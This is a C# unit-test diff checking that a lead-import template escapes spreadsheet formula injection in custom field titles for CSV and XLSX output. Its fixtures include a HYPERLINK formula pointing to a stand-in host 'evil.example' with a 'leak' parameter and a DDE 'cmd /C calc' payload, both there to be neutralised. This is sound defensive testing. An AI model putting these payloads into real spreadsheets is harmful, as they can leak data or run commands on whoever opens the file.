@@ -116,5 +116,62 @@ public sealed class InputTemplateTests : IDisposable
         Assert.DoesNotContain('\n', error.Message);
     }
 
+    /// <summary>
+    /// Liner's titles are not ours: a CSV header cell that starts with = + - @ is a formula to Excel and LibreOffice (a
+    /// quoted one too). Each such title gets a leading ', and the filled-in file maps every column back to its field.
+    /// </summary>
+    [Fact]
+    public void A_csv_template_of_custom_fields_titled_like_formulas_runs_none_and_maps_back()
+    {
+        var custom = new CustomFields(
+        [
+            new(101, "=HYPERLINK(\"http://evil.example/?leak\",\"Click, here\")", CustomFieldType.String, "leads", []),
+            new(102, "-2+3", CustomFieldType.String, "leads", []),
+            new(103, "+7 телефон", CustomFieldType.String, "leads", []),
+            new(104, "@канал", CustomFieldType.String, "leads", []),
+            new(105, "\t=cmd|' /C calc'!A0", CustomFieldType.String, "leads", []),
+            new(106, "=x", CustomFieldType.String, "leads", []),
+            new(107, "'=x", CustomFieldType.String, "leads", []),
+            new(108, "Тариф", CustomFieldType.String, "leads", []),
+        ]);
+        var path = Path.Combine(_folder.Path, "leads.csv");
+
+        InputTemplate.Write(path, custom: custom);
+
+        using var source = CsvRowSource.Open(path, new CsvInputOptions());
+        Assert.Equal(
+            [.. ExpectedHeader.Split(','), "'=HYPERLINK(\"http://evil.example/?leak\",\"Click, here\")", "'-2+3", "'+7 телефон", "'@канал", "'=cmd|' /C calc'!A0", "custom:106", "''=x", "Тариф"],
+            source.Header);
+        Assert.All(source.Header, cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
+        var map = ColumnMap.Build(path, source.Header, new Dictionary<string, string>(), [], custom);
+        Assert.Equal(
+            [101L, 102, 103, 104, 105, 106, 107, 108],
+            map.Fields.Skip(LeadFields.All.Count).Select(column => ((CustomField)column.Field).Id));
+    }
+
+    /// <summary>A workbook's cells are typed: a title such as <c>=HYPERLINK(…)</c> is a text cell there, shown as it is.</summary>
+    [Fact]
+    public void An_xlsx_template_keeps_custom_titles_and_option_titles_like_formulas_as_text()
+    {
+        var custom = new CustomFields(
+        [
+            new(101, "=HYPERLINK(\"http://evil.example/\",\"Click\")", CustomFieldType.Select, "leads", [new("a", "=1+1", 1), new("b", "-2+3", 2)]),
+            new(102, "-2+3", CustomFieldType.String, "leads", []),
+            new(103, "007", CustomFieldType.String, "leads", []),
+        ]);
+        var path = Path.Combine(_folder.Path, "leads.xlsx");
+
+        InputTemplate.Write(path, custom: custom);
+
+        using var workbook = new XLWorkbook(path);
+        Assert.Equal(
+            ["=HYPERLINK(\"http://evil.example/\",\"Click\")", "-2+3", "007"],
+            workbook.Worksheet("Leads").Row(1).CellsUsed().Skip(14).Select(cell => cell.GetString()));
+        Assert.Equal(
+            "custom field 101, '=HYPERLINK(\"http://evil.example/\",\"Click\")' (select): one option, by title or code: =1+1 (a), -2+3 (b)",
+            workbook.Worksheet("Leads").Cell(1, 15).Comment.Text);
+        Assert.All(workbook.Worksheets.SelectMany(sheet => sheet.CellsUsed()), cell => Assert.True(!cell.HasFormula && cell.DataType == XLDataType.Text, cell.Address.ToString()));
+    }
+
     private static string[] Cells(IXLRow row) => [row.Cell(2).GetString(), row.Cell(3).GetString(), row.Cell(4).GetString()];
 }
